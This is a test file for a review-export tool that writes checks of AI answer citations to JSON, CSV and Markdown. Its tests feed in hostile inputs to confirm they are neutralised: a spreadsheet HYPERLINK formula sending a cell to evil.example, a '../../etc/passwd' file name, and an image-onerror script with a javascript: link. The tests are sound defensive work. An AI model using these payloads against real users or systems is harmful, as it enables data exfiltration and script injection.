import fc from 'fast-check';
import { fromMarkdown } from 'mdast-util-from-markdown';
import { gfmTableFromMarkdown } from 'mdast-util-gfm-table';
import { gfmTable } from 'micromark-extension-gfm-table';
import { describe, expect, it } from 'vitest';
import { buildAnswerModel } from '../model/answer-model.ts';
import type { Answer } from '../model/types.ts';
import { loadedDocumentCheck } from './document-check.ts';
import { buildReviewExport, combineReviewExports, exportFileName, reviewExportToJson, type ExportDecision, type ReviewExport } from './export.ts';
import { CSV_COLUMNS, csvCell, reviewExportToCsv } from './export-csv.ts';
import { escapeMarkdown, reviewExportToMarkdown } from './export-markdown.ts';
import { reviewAnswer } from './review-answer.ts';
import type { ReviewChecks } from './types.ts';

const QUOTE_MFA = 'Vendors must use multi-factor authentication for all remote access to Company systems.';
const QUOTE_DORMANT = 'Vendor accounts that have not been used for 30 days are disabled automatically.';

const answer: Answer = {
  id: 'vendor-access',
  question: 'How must vendors sign in?',
  text: [
    'Vendors must use multi-factor authentication for all remote access [1][2].',
    'Unused vendor accounts are disabled automatically after 30 days [2].',
    'Passwords expire every 90 days.',
  ].join(' '),
  confidence: 0.5,
  documents: [{ id: 'policy', title: 'Vendor Security Policy', url: '/api/documents/policy' }],
  sources: [
    { id: 'S1', documentId: 'policy', page: 2, quote: QUOTE_MFA },
    { id: 'S2', documentId: 'policy', page: 9, quote: QUOTE_DORMANT },
  ],
};

const checks: ReviewChecks = {
  documents: { policy: loadedDocumentCheck('policy', { pageCount: 12 }) },
  sources: {
    S1: { sourceId: 'S1', status: { kind: 'located', page: 2, rects: [] } },
    S2: { sourceId: 'S2', status: { kind: 'wrong-page', score: 1, foundPage: 3, claimedPages: [9], rects: [], text: QUOTE_DORMANT } },
  },
};

const model = buildAnswerModel(answer);
const result = reviewAnswer(answer, model, checks);
const [mfa, dormant, passwords] = model.claims;

function exportWith(decisions: Record<string, ExportDecision> = {}): ReviewExport {
  return buildReviewExport({ answer, model, result, decisions, exportedAt: '2026-04-01T10:00:00.000Z' });
}

/** A strict RFC 4180 reader: the test's own, so the writer is checked against the standard, not against itself. */
/**
 * The cells a spreadsheet makes of CSV text when it splits on `separator`: quotes are special only at the start of
 * a cell (anywhere else they are text), as Excel and LibreOffice read them.
 */
function spreadsheetCells(text: string, separator: string): string[] {
  const cells: string[] = [];
  let i = 0;
  while (i < text.length) {
    let cell = '';
    if (text[i] === '"') {
      for (i++; i < text.length; i++) {
        if (text[i] === '"' && text[i + 1] === '"') cell += text[i++];
        else if (text[i] === '"') break;
        else cell += text[i];
      }
      i++;
    }
    while (i < text.length && text[i] !== separator && text[i] !== '\n') cell += text[i++];
    cells.push(cell.replace(/\r$/u, ''));
    i++;
  }
  return cells;
}

function parseCsv(text: string, separator = ','): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let i = 0;
  while (i < text.length) {
    let field = '';
    if (text[i] === '"') {
      i++;
      for (;;) {
        if (i >= text.length) throw new Error('unterminated quoted field');
        if (text[i] === '"') {
          if (text[i + 1] === '"') {
            field += '"';
            i += 2;
            continue;
          }
          i++;
          break;
        }
        field += text[i++];
      }
    } else {
      while (i < text.length && text[i] !== separator && text[i] !== '\r' && text[i] !== '\n') {
        if (text[i] === '"') throw new Error(`bare quote in an unquoted field at ${i}`);
        field += text[i++];
      }
    }
    row.push(field);
    if (text[i] === separator) {
      i++;
      continue;
    }
    if (text.startsWith('\r\n', i)) {
      rows.push(row);
      row = [];
      i += 2;
      continue;
    }
    if (i < text.length) throw new Error(`expected CRLF or a comma at ${i}`);
  }
  if (row.length > 0) rows.push(row);
  return rows;
}

describe('buildReviewExport', () => {
  it('has one entry per claim × citation, one for an uncited claim, with document, pages, flags and decision', () => {
    const exp = exportWith({ [mfa!.id]: { decision: 'verified', note: 'Checked p. 2.', reviewer: 'Ana', updatedAt: '2026-04-01T09:00:00Z' } });
    expect(exp.entries.map((e) => [e.claimId, e.citation?.key ?? null])).toEqual([
      [mfa!.id, '1'],
      [mfa!.id, '2'],
      [dormant!.id, '2'],
      [passwords!.id, null],
    ]);
    const [first, , wrong, uncited] = exp.entries;
    expect(first).toMatchObject({
      claim: 'Vendors must use multi-factor authentication for all remote access.',
      citation: { key: '1', sourceId: 'S1' },
      document: { id: 'policy', title: 'Vendor Security Policy' },
      page: 2,
      foundPage: 2,
      status: 'located',
      flags: [],
      decision: 'verified',
      note: 'Checked p. 2.',
      reviewer: 'Ana',
      decidedAt: '2026-04-01T09:00:00Z',
    });
    // the source claims page 9, the quote is on page 3: both are kept
    expect(wrong).toMatchObject({ page: 9, foundPage: 3, status: 'wrong-page', decision: null, note: '', reviewer: null, decidedAt: null });
    expect(wrong!.flags.map((f) => f.code)).toEqual(['wrong-page']);
    expect(wrong!.flags[0]!.reason).toContain('page 3');
    expect(uncited).toMatchObject({ claim: 'Passwords expire every 90 days.', citation: null, document: null, page: null, status: null });
    expect(uncited!.flags.map((f) => f.code)).toEqual(['uncited']);
  });

  it('counts decisions, ignores unknown decision values, and keeps answer-level flags and counts', () => {
    const exp = exportWith({
      [mfa!.id]: { decision: 'verified' },
      [dormant!.id]: { decision: 'follow-up', note: 'ask the owner' },
      [passwords!.id]: { decision: 'approved' as never },
    });
    expect(exp.counts).toEqual({ claims: 3, reviewed: 2, verified: 1, rejected: 0, followUp: 1, flags: result.counts });
    expect(exp.entries.at(-1)!.decision).toBeNull();
    expect(exp.answerFlags.map((f) => f.code)).toEqual(['low-confidence']);
    expect(exp).toMatchObject({
      format: 'citelens-review/1',
      answerId: 'vendor-access',
      question: 'How must vendors sign in?',
      exportedAt: '2026-04-01T10:00:00.000Z',
    });
  });

  it('takes decisions from a Map as the panel holds them, and serialises to one JSON object', () => {
    const exp = buildReviewExport({
      answer,
      model,
      result,
      decisions: new Map([[dormant!.id, { decision: 'rejected' as const, note: 'wrong page' }]]),
      exportedAt: 't',
    });
    expect(exp.entries[2]).toMatchObject({ decision: 'rejected', note: 'wrong page' });
    const json = reviewExportToJson(exp);
    expect(json.endsWith('}\n')).toBe(true);
    expect(JSON.parse(json)).toEqual(exp);
  });

  it('names files after the answer id, safely', () => {
    expect(exportFileName({ answerId: 'vendor-access' }, 'csv')).toBe('vendor-access-review.csv');
    expect(exportFileName({ answerId: '../../etc/passwd' }, 'md')).toBe('etc-passwd-review.md');
    expect(exportFileName({ answerId: '' }, 'json')).toBe('answer-review.json');
  });
});

describe('CSV export', () => {
  const tricky = 'He said "no", then left,\nand came back.\r\nDone';
  const csvOf = (decisions: Record<string, ExportDecision>) => parseCsv(reviewExportToCsv(exportWith(decisions)));

  it('writes a header, an answer-level row, and one row per entry, with CRLF line ends', () => {
    const text = reviewExportToCsv(exportWith());
    expect(text.endsWith('\r\n')).toBe(true);
    const rows = parseCsv(text);
    expect(rows[0]).toEqual([...CSV_COLUMNS]);
    expect(rows).toHaveLength(1 + 1 + 4);
    expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    expect(rows[1]![col('claim')]).toBe('(the answer as a whole)');
    expect(rows[1]![col('flag_codes')]).toBe('low-confidence');
    const wrong = rows[4]!;
    expect([
      wrong[col('citation_key')],
      wrong[col('source_id')],
      wrong[col('document_title')],
      wrong[col('page')],
      wrong[col('found_page')],
      wrong[col('flag_codes')],
    ]).toEqual(['2', 'S2', 'Vendor Security Policy', '9', '3', 'wrong-page']);
    expect(wrong[col('flag_reasons')]).toMatch(/^\[warning\] wrong-page: The quote is on page 3/u);
  });

  it('keeps quotes, commas and line breaks in a note intact (RFC 4180 quoting)', () => {
    const rows = csvOf({ [mfa!.id]: { decision: 'rejected', note: tricky, reviewer: 'O’Brien, Pat' } });
    const note = CSV_COLUMNS.indexOf('note');
    expect(rows[2]![note]).toBe(tricky);
    expect(rows[2]![CSV_COLUMNS.indexOf('reviewer')]).toBe('O’Brien, Pat');
    expect(reviewExportToCsv(exportWith({ [mfa!.id]: { decision: 'rejected', note: tricky } }))).toContain(
      '"He said ""no"", then left,\nand came back.\r\nDone"',
    );
  });

  it('neutralises a formula-like note so a spreadsheet shows it as text', () => {
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"click")';
    const rows = csvOf({ [mfa!.id]: { decision: 'follow-up', note: formula }, [dormant!.id]: { decision: 'verified', note: '@SUM(1+1)', reviewer: '-2+3' } });
    const note = CSV_COLUMNS.indexOf('note');
    expect(rows[2]![note]).toBe(`'${formula}`);
    expect(rows[4]![note]).toBe("'@SUM(1+1)");
    expect(rows[4]![CSV_COLUMNS.indexOf('reviewer')]).toBe("'-2+3");
    for (const bad of ['=1', '+1', '-1', '@A1', '\t=1', '\r=1', '  =1']) expect(csvCell(bad).replace(/^"/u, '')[0], JSON.stringify(bad)).toBe("'");
    expect(csvCell('a=1')).toBe('a=1');
    expect(csvCell(5)).toBe('5');
    expect(csvCell(null)).toBe('');
  });

  it('no cell starts a formula in a spreadsheet that splits on ";", tabs or "|" (another locale\'s list separator)', () => {
    for (const note of ['x;=1+1', 'a;@SUM(1)', 'a\t=1', 'ok; -3', 'a|=1', '1;2;+3', 'p, =A1']) {
      const text = reviewExportToCsv(exportWith({ [mfa!.id]: { decision: 'verified', note } }));
      for (const separator of [';', '\t', '|', ',']) {
        const cells = spreadsheetCells(text, separator);
        expect(
          cells.filter((c) => /^\s*[=+\-@]/u.test(c)),
          `${JSON.stringify(note)} split on ${JSON.stringify(separator)}`,
        ).toEqual([]);
      }
      // A strict reader still gets the note back, with an apostrophe before what would have been a formula.
      const back = csvOf({ [mfa!.id]: { decision: 'verified', note } })[2]![CSV_COLUMNS.indexOf('note')]!;
      expect(back.replace(/([,;\t|] *)'/gu, '$1')).toBe(note);
    }
    expect(csvCell('x;=1+1')).toBe(`"x;'=1+1"`);
    expect(csvCell('x;y')).toBe('"x;y"');
  });

  it('round-trips any note: a strict reader gets the same text back (apostrophe-prefixed when formula-like)', () => {
    // the characters CSV and spreadsheets care about, among ordinary ones
    const unit = fc.constantFrom('"', ',', '\n', '\r', '\r\n', '=', '+', '-', '@', '\t', ' ', "'", 'a', 'é', '𝄞');
    fc.assert(
      fc.property(fc.oneof(fc.string({ unit, maxLength: 30 }), fc.string({ maxLength: 30 })), (note) => {
        const rows = csvOf({ [mfa!.id]: { decision: 'verified', note } });
        const got = rows[2]![CSV_COLUMNS.indexOf('note')]!;
        // An apostrophe before a formula character at the start, and after any separator a spreadsheet may split on.
        const start = /^\s*[=+\-@]|^[\t\r]/u.test(note) ? `'${note}` : note;
        expect(got).toBe(start.replace(/([,;\t|] *)(?=[=+\-@])/gu, "$1'"));
        expect(rows).toHaveLength(6);
      }),
      { numRuns: 300 },
    );
  });
});

type Node = { type: string; value?: string; children?: Node[] };
const parseMd = (md: string) => fromMarkdown(md, { extensions: [gfmTable()], mdastExtensions: [gfmTableFromMarkdown()] }) as Node;
const walk = (n: Node, out: Node[] = []): Node[] => {
  out.push(n);
  for (const c of n.children ?? []) walk(c, out);
  return out;
};
const textOf = (n: Node): string =>
  n.type === 'text' || n.type === 'inlineCode' ? (n.value ?? '') : n.type === 'break' ? '\n' : (n.children ?? []).map(textOf).join('');

describe('Markdown export', () => {
  it('reports the counts, the answer-level flags and each claim with its citations, flags and decision', () => {
    const md = reviewExportToMarkdown(
      exportWith({ [dormant!.id]: { decision: 'rejected', reviewer: 'Ana', updatedAt: '2026-04-01T09:00:00Z', note: 'Quote is on p. 3,\nnot p. 9.' } }),
    );
    expect(md).toContain('# Review: How must vendors sign in?');
    expect(md).toContain('3 claims, 1 reviewed (0 verified, 1 rejected, 0 follow-up).');
    expect(md).toContain('## The answer as a whole');
    expect(md).toContain('### 2\\. Unused vendor accounts are disabled automatically after 30 days.');
    expect(md).toContain('Decision: **rejected** by Ana on 2026-04-01T09:00:00Z');
    expect(md).toContain('- [2] → S2 · “Vendor Security Policy” · page 9 · found on page 3 · status: wrong-page');
    expect(md).toMatch(/ {2}- \*\*Warning\*\* `wrong-page`: The quote is on page 3/u);
    const tree = parseMd(md);
    const quote = walk(tree).find((n) => n.type === 'blockquote')!;
    expect(textOf(quote)).toBe('Quote is on p. 3,\nnot p. 9.');
    const headings = walk(tree)
      .filter((n) => n.type === 'heading')
      .map(textOf);
    expect(headings).toEqual([
      'Review: How must vendors sign in?',
      'The answer as a whole',
      'Claims',
      '1. Vendors must use multi-factor authentication for all remote access.',
      '2. Unused vendor accounts are disabled automatically after 30 days.',
      '3. Passwords expire every 90 days.',
    ]);
  });

  it('shows hostile notes and reviewer names as their own words: no HTML, link, image, table or new block', () => {
    const note =
      '<img src=x onerror=alert(1)>\n[click](javascript:alert(1)) ![x](http://e.x/t.png)\n# Heading?\n- item | a | b |\n|---|---|\n`code` **bold** _em_ ~~del~~ &amp; \\';
    const md = reviewExportToMarkdown(exportWith({ [mfa!.id]: { decision: 'verified', note, reviewer: '<b>Eve</b> [x](y)' } }));
    const nodes = walk(parseMd(md));
    expect(nodes.filter((n) => ['html', 'link', 'image', 'table', 'code', 'delete'].includes(n.type)).map((n) => n.type)).toEqual([]);
    const quote = nodes.find((n) => n.type === 'blockquote')!;
    expect(walk(quote).filter((n) => !['blockquote', 'paragraph', 'text', 'break'].includes(n.type))).toEqual([]);
    expect(textOf(quote)).toBe(note);
    expect(md).toContain('by \\<b\\>Eve\\</b\\> \\[x\\](y)');
  });

  it('escapes a claim that would start a list or a numbered item', () => {
    for (const s of ['- not a list', '+ nor this', '1. nor this', '2) nor this', '> nor a quote', '=== nor a heading']) {
      const tree = parseMd(`${escapeMarkdown(s)}\n`);
      expect(
        tree.children!.map((c) => c.type),
        s,
      ).toEqual(['paragraph']);
      expect(textOf(tree), s).toBe(s);
    }
  });

  it('includes the backend report when the answer has one', () => {
    const withReport: Answer = { ...answer, reviewReport: { groundingStatus: 'ungrounded', retryCount: 2 } };
    const m = buildAnswerModel(withReport);
    const md = reviewExportToMarkdown(buildReviewExport({ answer: withReport, model: m, result: reviewAnswer(withReport, m, checks), exportedAt: 't' }), {
      headingLevel: 2,
    });
    expect(md).toContain("### The backend's review report");
    expect(md).toContain('- Grounding: `ungrounded`');
    expect(md).toContain('- Retries: `2`');
    expect(md).toMatch(/^## Review: /u);
  });
});

describe('the export stands on its own (issue #38)', () => {
  it("carries each citation's quoted evidence and verdict into JSON, CSV and the Markdown report", () => {
    const exp = exportWith();
    const [first, , wrong, uncited] = exp.entries;
    expect(first).toMatchObject({ quote: QUOTE_MFA, verdict: 'ok' });
    expect(wrong).toMatchObject({ quote: QUOTE_DORMANT, verdict: 'warn' });
    expect(uncited!.quote).toBeNull();
    const rows = parseCsv(reviewExportToCsv(exp));
    const col = (name: (typeof CSV_COLUMNS)[number]) => CSV_COLUMNS.indexOf(name);
    const cited = rows.find((r) => r[col('citation_key')] === '1')!;
    expect(cited[col('quote')]).toBe(QUOTE_MFA);
    expect(cited[col('verdict')]).toBe('ok');
    const md = reviewExportToMarkdown(exp);
    expect(md).toContain(`  - Quote: “${escapeMarkdown(QUOTE_DORMANT)}”`);
    expect(md).toContain('verdict: passed every check');
    expect(md).toContain('verdict: warning');
  });

  it("a conversation's export covers every turn, in order, each entry naming its turn, the counts added up", () => {
    const second: Answer = { ...answer, id: 'vendor-access-2', question: 'And passwords?', text: 'Passwords expire every 90 days.', sources: [] };
    const secondModel = buildAnswerModel(second);
    const secondExport = buildReviewExport({
      answer: second,
      model: secondModel,
      result: reviewAnswer(second, secondModel, {}),
      decisions: { [secondModel.claims[0]!.id]: { decision: 'rejected', note: 'no such rule' } },
      exportedAt: 'x',
    });
    const both = combineReviewExports(
      [
        { turn: 1, export: exportWith({ [mfa!.id]: { decision: 'verified' } }) },
        { turn: 2, export: secondExport },
      ],
      '2026-04-02T00:00:00.000Z',
    );
    expect(both.answerId).toBe('vendor-access');
    expect(both.exportedAt).toBe('2026-04-02T00:00:00.000Z');
    expect(both.counts).toMatchObject({ claims: 4, reviewed: 2, verified: 1, rejected: 1 });
    expect(both.entries.map((e) => [e.turn, e.answerId])).toEqual([
      [1, 'vendor-access'],
      [1, 'vendor-access'],
      [1, 'vendor-access'],
      [1, 'vendor-access'],
      [2, 'vendor-access-2'],
    ]);
    const rows = parseCsv(reviewExportToCsv(both));
    expect(rows.at(-1)![0]).toBe('vendor-access-2');
    const md = reviewExportToMarkdown(both);
    expect(md.indexOf('## Turn 1')).toBeGreaterThan(0);
    expect(md.indexOf('## Turn 2')).toBeGreaterThan(md.indexOf('## Turn 1'));
    expect(md).toContain('### 1\\. Passwords expire every 90 days.\n\nDecision: **rejected**');
  });
});
